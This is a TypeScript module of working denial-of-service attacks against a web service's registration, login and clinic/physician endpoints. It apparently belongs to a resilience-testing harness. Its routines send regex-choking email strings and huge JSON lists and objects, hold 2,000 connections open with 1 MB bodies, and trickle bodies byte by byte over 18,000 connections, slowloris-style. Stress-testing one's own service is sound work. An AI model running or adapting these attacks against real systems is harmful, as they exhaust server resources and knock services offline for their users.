import { pause, scaled, type Attack, type Target } from './attack.ts';
import { fates, headOf, openMany, postJson } from './raw-http.ts';

/** Texts that make a careless pattern try every way of cutting them up. */
const slowTexts = (length: number) => [
  `${'a@'.repeat(1)}${'a.'.repeat(length / 2)}@`,
  `a@${'.'.repeat(length)}\n`,
  ' '.repeat(length),
];

export const slowPattern: Attack = {
  name: 'pattern',
  title: 'anybody registers with an e-mail address of 20 to 900 kB that a pattern stumbles over',
  async run(target) {
    return posted(target, async () => {
      const answers: number[] = [];
      for (const length of [20_000, 100_000, 900_000])
        for (const email of slowTexts(length))
          answers.push(
            await postJson(
              target.httpPort,
              '/jwt/register',
              JSON.stringify({ email, username: 'x', password: 'x'.repeat(12) }),
            ),
          );
      return answers;
    });
  },
};

export const longList: Attack = {
  name: 'unique-items',
  title: 'a list of 400,000 characters in a field whose entries have to differ',
  async run(target) {
    const distribution = Array.from({ length: 60_000 }, (_, index) => `entry ${index}`);
    return posted(target, async () => [
      await postJson(target.httpPort, '/api/clinics', JSON.stringify({ distribution }), target.token),
      await postJson(target.httpPort, '/api/physicians', JSON.stringify({ delivery: distribution }), target.token),
    ]);
  },
};

export const unknownKeys: Attack = {
  name: 'unknown-keys',
  title: 'an object with 60,000 keys that nobody knows',
  async run(target) {
    const body = JSON.stringify(Object.fromEntries(Array.from({ length: 60_000 }, (_, index) => [`k${index}`, 0])));
    return posted(target, async () => [
      await postJson(target.httpPort, '/jwt/login', body),
      await postJson(target.httpPort, '/api/clinics', body, target.token),
    ]);
  },
};

export const bodyMemory: Attack = {
  name: 'held-bodies',
  title: '2,000 connections with 1 MB of a JSON body each, then silence',
  async run(target) {
    const piece = Buffer.alloc(64 * 1024, 0x20);
    const headers = { 'content-type': 'application/json', 'content-length': 1024 * 1024 };
    const connections = await openMany(target.httpPort, scaled(target, 2_000), ({ socket }) => {
      socket.write(headOf({ method: 'POST', path: '/jwt/login', headers }));
      for (let sent = 0; sent < 15; sent += 1) socket.write(piece);
    });
    await pause(target.seconds * 1000);
    const seen = fates(connections);
    for (const { socket } of connections) socket.destroy();
    return seen;
  },
};

export const tricklingBodies: Attack = {
  name: 'trickle',
  title: '18,000 connections that trickle their body, byte by byte',
  async run(target) {
    const headers = { 'content-type': 'application/json', 'content-length': 60_000 };
    const connections = await openMany(target.httpPort, scaled(target, 18_000), ({ socket }) =>
      socket.write(headOf({ method: 'POST', path: '/jwt/login', headers })),
    );
    const until = performance.now() + target.seconds * 1000;
    while (performance.now() < until) {
      for (const { socket, isClosed } of connections) if (!isClosed) socket.write(' ');
      await pause(1_000);
    }
    const seen = fates(connections);
    for (const { socket } of connections) socket.destroy();
    return seen;
  },
};

/** The same again until the time is over. */
async function posted(target: Target, round: () => Promise<readonly number[]>): Promise<Record<string, number>> {
  const until = performance.now() + target.seconds * 1000;
  const answers: number[] = [];
  do answers.push(...(await round()));
  while (performance.now() < until);
  return {
    requests: answers.length,
    refused: answers.filter((status) => status >= 400 && status < 500).length,
    cut: answers.filter((status) => status === 0).length,
    failed: answers.filter((status) => status >= 500).length,
  };
}
